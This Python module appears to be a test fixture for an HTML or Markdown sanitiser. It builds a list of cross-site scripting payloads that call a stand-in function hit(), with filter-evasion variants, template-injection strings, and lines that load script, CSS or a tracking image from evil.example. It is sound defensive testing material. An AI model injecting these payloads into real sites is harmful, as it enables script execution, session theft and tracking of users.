"""Texts that try to run script in a page: each would call `hit()` where markup is taken at its word."""

from __future__ import annotations

import html
from urllib.parse import quote

_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "marquee",
    "iframe",
)
_LINKS = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    " javascript:hit()",
    "\x01javascript:hit()",
    "javascript&colon;hit()",
    "vbscript:hit()",
    "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "blob:hit()",
    "file:///etc/passwd",
    "//evil.example/x",
    "https:javascript:hit()",
)
_ELEMENTS = (
    "<script>hit()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script type=module>hit()</script>",
    "<svg><script>hit()</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<button formaction=javascript:hit()>x</button>",
    "<a href=javascript:hit()>x</a>",
    "<template><script>hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[<script>hit()</script>]]>",
    "<xss style='animation-name:x' onanimationstart=hit()></xss>",
    "<img src='https://evil.example/seen.png'>",
    "]]><script>hit()</script>",
    "'\"><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</title><script>hit()</script>",
    "`<img src=x onerror=hit()>`",
    "```html\n<img src=x onerror=hit()>\n```",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "<%= hit() %>",
    "\u2028<script>hit()</script>",
    "\u202e<script>hit()</script>",
    "<img src=x onerror=&#104;&#105;&#116;&#40;&#41;>",
)

PAYLOADS: tuple[str, ...] = (
    *_ELEMENTS,
    *(f"<{tag} {handler}=hit()>" for tag in _TAGS for handler in _HANDLERS),
    *(f"[click]({link})" for link in _LINKS),
    *(f"![see]({link})" for link in _LINKS),
    *(f"<{link}>" for link in _LINKS[:3]),
    *(html.escape(one) for one in _ELEMENTS[:5]),
    *(quote(one) for one in _ELEMENTS[:5]),
    '[click](https://a.example/"onmouseover="hit()")',
    "[click](https://a.example 'x\" onclick=hit()')",
    "[<img src=x onerror=hit()>](https://a.example)",
    "| <script>hit()</script> |\n|---|\n| <img src=x onerror=hit()> |",
    "> <script>hit()</script>",
    "1. <script>hit()</script>",
    "# <script>hit()</script>",
)
